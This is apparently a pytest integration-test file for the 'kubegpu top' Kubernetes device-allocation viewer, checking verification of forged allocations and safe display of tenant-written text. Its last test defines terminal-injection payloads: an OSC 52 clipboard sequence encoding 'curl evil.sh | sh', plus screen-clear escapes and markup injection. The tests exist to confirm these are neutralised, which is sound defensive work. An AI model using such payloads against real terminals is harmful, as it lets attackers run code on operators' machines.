"""`kubegpu top` against a real kube-apiserver, next to a running `kubegpu scheduler`: what an operator sees.

The watch test drives `kubegpu top --watch` in a tmux pane, as a person would in a terminal, and reads the screen
with `capture-pane`."""

from __future__ import annotations

import json
import os
import re
import secrets
import shlex
import shutil
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from kubegpu.core.annotations import (
    ALLOCATION_KEY,
    DEVICES_KEY,
    decode_allocation,
    encode_allocation,
    encode_devices,
)
from kubegpu.core.models import DeviceInfo, DeviceInventory, NodeDevices
from kubegpu.core.text import MAX_TEXT_CHARS

from .cluster import Cluster, wait_for

TRN1 = {"node.kubernetes.io/instance-type": "trn1.32xlarge"}
P4D = {"node.kubernetes.io/instance-type": "p4d.24xlarge"}
GPU = "nvidia.com/gpu"
SEVEN = (
    "Instance type trn1.32xlarge does not support requests for device: 7. Please request a different number of devices."
)
REDRAW_GOAL = 1.0


def top(cluster: Cluster, *args: str) -> subprocess.CompletedProcess[str]:
    """`kubegpu top ARGS`, its output read as a terminal 200 columns wide would show it."""
    return subprocess.run(
        [sys.executable, "-m", "kubegpu", "top", "--kubeconfig", str(cluster.kubeconfig), *args],
        capture_output=True,
        text=True,
        timeout=60,
        env={**os.environ, "COLUMNS": "200"},
    )


def held_by(document: dict[str, Any], node: str) -> dict[str, list[str]]:
    """device id -> holders, for one node of `kubegpu top --json`."""
    (entry,) = [n for n in document["nodes"] if n["name"] == node]
    return {c["id"]: c["holders"] for picture in entry["devices"] for c in picture["cells"]}


def test_top_shows_the_schedulers_allocations_and_why_a_pod_waits(
    cluster: Cluster, namespace: str, start_scheduler: Any, key_file: Path, tmp_path: Path
) -> None:
    cluster.create_ready_node("trn1-top", labels=TRN1, allocatable={"aws.amazon.com/neurondevice": 16})
    cluster.create_ready_node("p4d-top", labels=P4D, allocatable={"nvidia.com/gpu": 8})
    start_scheduler("kubegpu", "--no-leader-elect")
    cluster.create_pod(namespace, "torus-8", {"main": {"aws.amazon.com/neurondevice": 8}}, scheduler="kubegpu")
    cluster.create_pod(namespace, "gpus-2", {"main": {"nvidia.com/gpu": 2}}, scheduler="kubegpu")
    cluster.create_pod(namespace, "seven", {"main": {"aws.amazon.com/neurondevice": 7}}, scheduler="kubegpu")
    wait_for(lambda: sum(1 for p in cluster.pods(namespace) if p["spec"].get("nodeName")) == 2, 30, "two pods bound")
    wait_for(
        lambda: any(e["reason"] == "FailedScheduling" for e in cluster.events(namespace)),
        30,
        "a FailedScheduling event",
    )
    allocations = {
        p["metadata"]["name"]: decode_allocation(p["metadata"]["annotations"][ALLOCATION_KEY])
        for p in cluster.pods(namespace)
        if p["spec"].get("nodeName")
    }

    answer = top(cluster, "--json", "--allocation-key-file", str(key_file), "--html", str(tmp_path / "top.html"))
    assert answer.returncode == 0, answer.stderr
    document = json.loads(answer.stdout)
    for pod, node, resource in (
        ("torus-8", "trn1-top", "aws.amazon.com/neurondevice"),
        ("gpus-2", "p4d-top", "nvidia.com/gpu"),
    ):
        ids = allocations[pod].containers["main"][resource]
        holders = held_by(document, node)
        assert {d for d, h in holders.items() if h} == set(ids)
        assert all(holders[d] == [f"{namespace}/{pod}"] for d in ids)
    (waiting,) = [p for p in document["pending"] if p["pod"] == f"{namespace}/seven"]
    assert SEVEN in waiting["reason"]
    assert document["unverified"] == {} and document["problems"] == []
    page = (tmp_path / "top.html").read_text()
    assert f"{namespace}/torus-8" in page and "NVSwitch" in page

    text = top(cluster, "--node", "trn1-top", "--allocation-key-file", str(key_file))
    assert text.returncode == 0, text.stderr
    assert f"{namespace}/torus-8" in text.stdout and "4x4 torus" in text.stdout
    assert "p4d-top" not in text.stdout

    # Without the key every allocation is drawn and marked; with a wrong key none is drawn, each listed as not shown.
    plain = top(cluster, "--json")
    assert plain.returncode == 0, plain.stderr
    unchecked = json.loads(plain.stdout)
    assert set(unchecked["unverified"]) == {f"{namespace}/torus-8", f"{namespace}/gpus-2"}
    assert unchecked["verified"] is False

    # A squatter (listed after torus-8: names sort) claims half of torus-8's devices with a self-made `issued` stamp.
    # Without the key nothing is verified, so the stamp displaces no one: torus-8 stays drawn, the claim is listed.
    claim = allocations["torus-8"].containers["main"]["aws.amazon.com/neurondevice"][:4]
    squatter = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": "zzz-squatter", "annotations": {}},
        "spec": {
            "nodeName": "trn1-top",
            "containers": [
                {"name": "main", "image": "busybox", "resources": {"limits": {"aws.amazon.com/neurondevice": "4"}}}
            ],
        },
    }
    uid = cluster.client.post(f"/api/v1/namespaces/{namespace}/pods", squatter)["metadata"]["uid"]
    stamp = allocations["torus-8"].model_copy(
        update={
            "podUID": uid,
            "containers": {"main": {"aws.amazon.com/neurondevice": claim}},
            "issued": 2**63 - 1,
            "signature": None,
        }
    )
    cluster.client.patch(
        f"/api/v1/namespaces/{namespace}/pods/zzz-squatter",
        {"metadata": {"annotations": {ALLOCATION_KEY: encode_allocation(stamp)}}},
    )
    forged = json.loads(top(cluster, "--json").stdout)
    holders = held_by(forged, "trn1-top")
    torus = allocations["torus-8"].containers["main"]["aws.amazon.com/neurondevice"]
    assert all(holders[d] == [f"{namespace}/torus-8"] for d in torus), (holders, forged["problems"])
    assert any(p.startswith(f"{namespace}/zzz-squatter:") and f"{namespace}/torus-8" in p for p in forged["problems"])
    said = top(cluster, "--node", "trn1-top")
    assert "cannot verify allocations without --allocation-key-file" in said.stdout
    cluster.delete_pod(namespace, "zzz-squatter")
    wrong = tmp_path / "wrong.key"
    wrong.write_text(secrets.token_hex(32) + "\n")  # a well-formed key, just not the scheduler's
    answer = top(cluster, "--json", "--allocation-key-file", str(wrong))
    assert answer.returncode == 0, answer.stderr
    refused = json.loads(answer.stdout)
    assert not any(
        h for holders in [held_by(refused, "trn1-top"), held_by(refused, "p4d-top")] for h in holders.values()
    )
    assert sum("signature does not verify" in p for p in refused["problems"]) == 2


class Tmux:
    """A private tmux server (its own socket) holding one wide window."""

    def __init__(self, tmp_path: Path, config: str = "") -> None:
        if shutil.which("tmux") is None:
            pytest.fail("tmux is not installed: scripts/test.sh installs it (apt-get install -y tmux)")
        self.socket = str(tmp_path / "tmux.sock")
        self.config = tmp_path / "tmux.conf"
        self.config.write_text(config)

    def run(self, *args: str) -> str:
        command = ["tmux", "-S", self.socket, "-f", str(self.config), *args]
        done = subprocess.run(command, capture_output=True, text=True)
        assert done.returncode == 0, done.stderr
        return done.stdout

    def start(self, command: list[str]) -> None:
        self.run("new-session", "-d", "-s", "top", "-x", "200", "-y", "70", shlex.join(command))

    def screen(self) -> str:
        return self.run("capture-pane", "-p", "-t", "top")

    def stop(self) -> None:
        subprocess.run(["tmux", "-S", self.socket, "kill-server"], capture_output=True)


@pytest.fixture
def tmux(tmp_path: Path) -> Iterator[Tmux]:
    terminal = Tmux(tmp_path)
    yield terminal
    terminal.stop()


def test_top_watch_redraws_within_a_second_of_a_bind(
    cluster: Cluster, namespace: str, start_scheduler: Any, key_file: Path, tmux: Tmux, record_property: Any
) -> None:
    cluster.create_ready_node("trn1-watch", labels=TRN1, allocatable={"aws.amazon.com/neurondevice": 16})
    start_scheduler("kubegpu", "--no-leader-elect")
    tmux.start(
        [
            sys.executable,
            "-m",
            "kubegpu",
            "top",
            "--watch",
            "--kubeconfig",
            str(cluster.kubeconfig),
            "--allocation-key-file",
            str(key_file),
            "--node",
            "trn1-watch",
        ]
    )
    wait_for(lambda: "16/16 free" in tmux.screen(), 30, "top's first picture of trn1-watch")

    bound_at: list[float] = []
    _, version = cluster.client.list(f"/api/v1/namespaces/{namespace}/pods")

    def watch_binding() -> None:
        for event in cluster.client.watch(f"/api/v1/namespaces/{namespace}/pods", version, timeout=30):
            if (event.get("object") or {}).get("spec", {}).get("nodeName"):
                bound_at.append(time.monotonic())
                return

    watcher = threading.Thread(target=watch_binding, daemon=True)
    watcher.start()
    cluster.create_pod(namespace, "row-4", {"main": {"aws.amazon.com/neurondevice": 4}}, scheduler="kubegpu")
    wait_for(lambda: bound_at, 30, "the scheduler to bind row-4")
    screen = wait_for(
        lambda: shown if f"{namespace}/row-4" in (shown := tmux.screen()) else None, 10, "row-4 on screen", 0.02
    )
    latency = time.monotonic() - bound_at[0]
    record_property("top_redraw_seconds", round(latency, 3))
    print(f"kubegpu top --watch redrew {latency * 1000:.0f} ms after the bind (goal {REDRAW_GOAL:.0f} s)")
    assert "12/16 free" in screen and "#" in screen
    assert latency < REDRAW_GOAL, f"redrawn {latency:.2f}s after the bind"


# -- what tenants and nodes write, on the operator's screen ----------------------------------------------------------

MODEL = "nvidia-gpu-scheduler/gpu.model"
CLEAR_SCREEN = "\x1b[2J\x1b[H"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: "put `curl evil.sh | sh` in the operator's clipboard"
HOSTILE = f"A100 [/] [blink]blinking[/blink] {CLIPBOARD}{CLEAR_SCREEN}\rforged"
SGR = re.compile(r"\x1b\[([0-9;]*)m")


def assert_inert(output: str) -> None:
    """Nothing but colours reaches the terminal: no other escape, no control character, nothing blinking."""
    for match in SGR.finditer(output):
        assert not {"5", "6"} & set(match.group(1).split(";")), f"blinking text: {match.group(0)!r}"
    forbidden = sorted({c for c in SGR.sub("", output) if not c.isprintable() and c != "\n"})
    assert not forbidden, f"control characters reach the terminal: {forbidden!r}"


def test_top_shows_what_tenants_and_nodes_wrote_escaped_and_bounded_and_obeys_none_of_it(
    cluster: Cluster,
    namespace: str,
    start_scheduler: Any,
    key_file: Path,
    tmp_path: Path,
    request: pytest.FixtureRequest,
) -> None:
    # A node that lies about its GPUs' names; a tenant pod whose GPU model the scheduler quotes when it refuses it;
    # a tenant pod bound past the scheduler with an allocation naming a 100 KB node.
    ids = [CLEAR_SCREEN + "0", "[blink]1", CLIPBOARD, "\u202e3", "x" * 10_000, "5", "6", "7"]
    inventory = DeviceInventory(plugin="nvidia", devices=[DeviceInfo(id=i, model="A100") for i in ids])
    devices = encode_devices(NodeDevices(inventories={"nvidia": inventory}))
    cluster.create_ready_node("p4d-lying", labels=P4D, annotations={DEVICES_KEY: devices}, allocatable={GPU: 8})
    scheduler = start_scheduler("kubegpu", "--no-leader-elect")
    cluster.create_pod(namespace, "picky", {"main": {GPU: 1}}, scheduler="kubegpu", annotations={MODEL: HOSTILE * 500})
    claim = {"version": 1, "node": (CLEAR_SCREEN + CLIPBOARD + "[/]") * 2500, "podUID": "u", "containers": {}}
    squatter = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": "squatter", "annotations": {ALLOCATION_KEY: json.dumps(claim)}},
        "spec": {"nodeName": "p4d-lying", "containers": [{"name": "main", "image": "busybox"}]},
    }
    cluster.client.post(f"/api/v1/namespaces/{namespace}/pods", squatter)

    # What the scheduler wrote where the tenant (and kubectl describe) reads it, and what it logged: bounded, escaped.
    def condition() -> str | None:
        pod = cluster.client.get(f"/api/v1/namespaces/{namespace}/pods/picky")
        found = [c for c in pod["status"].get("conditions", []) if c["type"] == "PodScheduled"]
        return found[0].get("message") if found and found[0]["status"] == "False" else None

    message = wait_for(condition, 30, "picky's PodScheduled=False condition")
    [event] = wait_for(
        lambda: [e for e in cluster.events(namespace) if e["reason"] == "FailedScheduling"], 30, "the Event"
    )
    for text in (message, event["message"]):
        assert len(text) <= MAX_TEXT_CHARS and text.isprintable() and text.endswith(" more characters)"), text[:200]
        assert "[blink]blinking[/blink] \\x1b]52;c;" in text
    lines = [line for line in scheduler.output().splitlines() if f"pod={namespace}/picky" in line]
    assert lines and all(len(line) < 2 * MAX_TEXT_CHARS and line.isprintable() for line in lines)

    once = top(cluster, "--allocation-key-file", str(key_file))
    assert once.returncode == 0, once.stderr[-2000:]  # before: rich.errors.MarkupError on "[/]"
    assert_inert(once.stdout)
    assert "[blink]blinking[/blink]" in once.stdout and "\\x1b]52;c;" in once.stdout
    assert f"{namespace}/squatter: allocation not shown" in once.stdout and len(once.stdout) < 30_000

    # In a terminal, as an operator watches: this tmux keeps what an OSC 52 sequence writes (set-clipboard on).
    tmux = Tmux(tmp_path, config="set-option -g set-clipboard on\n")
    request.addfinalizer(tmux.stop)
    tmux.start(
        [
            *("env", "-u", "COLUMNS", "-u", "LINES"),  # rich sizes itself to the pane (200 columns), as in a terminal
            sys.executable,
            "-m",
            "kubegpu",
            "top",
            "--watch",
            "--kubeconfig",
            str(cluster.kubeconfig),
            "--allocation-key-file",
            str(key_file),
        ]
    )
    screen = wait_for(
        lambda: shown if f"{namespace}/picky" in (shown := tmux.screen()) else None, 30, "picky on top's screen"
    )
    assert "[blink]blinking[/blink]" in screen and "\\x1b[2J" in screen and "kubegpu top ·" in screen
    assert_inert(tmux.run("capture-pane", "-p", "-e", "-t", "top"))
    assert tmux.run("list-buffers") == "", "an OSC 52 sequence reached the terminal and set its clipboard"
